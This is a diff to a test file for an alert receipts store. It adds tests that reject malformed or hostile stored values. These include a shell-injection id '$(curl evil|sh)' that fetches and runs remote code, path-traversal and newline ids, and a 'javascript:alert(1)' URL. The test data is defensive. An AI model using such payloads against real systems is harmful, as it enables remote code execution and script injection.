@@ -45,13 +45,13 @@ test.each(stores)('%s: an alert nobody heard of has no receipts', async (_, open
 
 test.each(stores)('%s: the newest receipt with a remote is found, for its alert and channel alone', async (_, open) => {
   const receipts = await open()
-  await receipts.save(receipt({ id: '1', remote: { id: 'old' } }))
-  await receipts.save(receipt({ id: '2', remote: { id: 'new' } }))
+  await receipts.save(receipt({ id: '1', remote: { id: '1' } }))
+  await receipts.save(receipt({ id: '2', remote: { id: '2' } }))
   await receipts.save(receipt({ id: '3' }))
-  await receipts.save(receipt({ id: '4', channel: 'deploys', remote: { id: 'other channel' } }))
-  await receipts.save(receipt({ id: '5', alertKey: 'ci/dev', remote: { id: 'other alert' } }))
+  await receipts.save(receipt({ id: '4', channel: 'deploys', remote: { id: '3' } }))
+  await receipts.save(receipt({ id: '5', alertKey: 'ci/dev', remote: { id: '4' } }))
 
-  expect((await receipts.find('ci/main', 'alerts'))?.remote).toEqual({ id: 'new' })
+  expect((await receipts.find('ci/main', 'alerts'))?.remote).toEqual({ id: '2' })
 })
 
 test.each(stores)('%s: what is pending comes back whole and in order, until it is settled', async (_, open) => {
@@ -244,19 +244,31 @@ test.each([
   expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
 })
 
-test.each([null, 'x', {}, { id: 7 }, { id: '' }, { id: '.' }, { id: '..' }, { id: '1', thread: {} }])(
-  'a receipt of a message that cannot be %j is no receipt, and a new message is sent',
-  async (remote) => {
-    const documents = memoryDocuments()
-    const damaged = { ...receipt({ outcome: 'delivered' }), remote }
-    const book = JSON.stringify({ receipts: [damaged], entries: [{ receipt: damaged, ...content }] })
-    await documents.update(bookKey('alerts'), () => JSON.parse(book))
-    const receipts = receiptsOver(documents)
+test.each([
+  ...[null, 'x', {}, { id: 7 }, { id: '' }, { id: '.' }, { id: '..' }, { id: '1', thread: {} }],
+  ...[
+    { id: '$(curl evil|sh)' },
+    { id: '1\n2' },
+    { id: '1/2' },
+    { id: '1'.repeat(21) },
+    { id: '1', channel: '../8' },
+    { id: '1', thread: '9?x' }
+  ],
+  ...[
+    { id: '1', url: 'javascript:alert(1)' },
+    { id: '1', url: 'https://me@host/issues/9' },
+    { id: '1', url: '' }
+  ]
+])('a receipt of a message that cannot be %j is no receipt, and a new message is sent', async (remote) => {
+  const documents = memoryDocuments()
+  const damaged = { ...receipt({ outcome: 'delivered' }), remote }
+  const book = JSON.stringify({ receipts: [damaged], entries: [{ receipt: damaged, ...content }] })
+  await documents.update(bookKey('alerts'), () => JSON.parse(book))
+  const receipts = receiptsOver(documents)
 
-    expect(await receipts.pending('alerts')).toEqual([])
-    expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
-  }
-)
+  expect(await receipts.pending('alerts')).toEqual([])
+  expect(await receipts.claim(receipt({ outcome: 'pending' }), content, lease)).toEqual({ kind: 'mine' })
+})
 
 test.each(stores)('%s: what comes too late is not told, whoever asked first', async (_, open) => {
   const receipts = await open()
@@ -264,7 +276,7 @@ test.each(stores)('%s: what comes too late is not told, whoever asked first', as
   await receipts.save(pending('5', 5), content)
   await receipts.save(pending('7', 7), content)
   await receipts.save(pending('6', 6), content)
-  await receipts.save(receipt({ id: '6', order: 6, remote: { id: 'message' } }))
+  await receipts.save(receipt({ id: '6', order: 6, remote: { id: '8' } }))
 
   expect((await receipts.pending('alerts')).map(({ receipt: { id } }) => id)).toEqual(['7'])
   const late = await receipts.claim(pending('4', 4), content, lease)
@@ -272,7 +284,7 @@ test.each(stores)('%s: what comes too late is not told, whoever asked first', as
     kind: 'done',
     receipt: { id: '4', outcome: 'skipped', detail: 'a newer message of this alert got through' }
   })
-  expect(await receipts.claim(pending('7', 7), content, lease)).toEqual({ kind: 'mine', remote: { id: 'message' } })
+  expect(await receipts.claim(pending('7', 7), content, lease)).toEqual({ kind: 'mine', remote: { id: '8' } })
   expect(await receipts.claim(receipt({ id: 'none', outcome: 'pending' }), content, { now, until: now + 1 })).toMatchObject({
     kind: 'busy'
   })
@@ -317,4 +329,16 @@ test.each([
 test('a receipt of another channel is not one of this channel', () => {
   const receipts = [receipt(), receipt({ channel: 'deploys', remote: { id: '7' } })]
   expect(bookOf({ receipts }, 'alerts').receipts).toEqual([receipt()])
+})
+
+test.each([
+  { order: 1e308 },
+  { order: 0.5 },
+  { order: 'last' },
+  { attempts: 1e308 },
+  { attempts: -1 },
+  { attempts: 'many' },
+  { attempts: {} }
+])('a receipt with %j is none', (damage) => {
+  expect(bookOf({ receipts: [{ ...receipt(), ...damage }] }, 'alerts').receipts).toEqual([])
 })
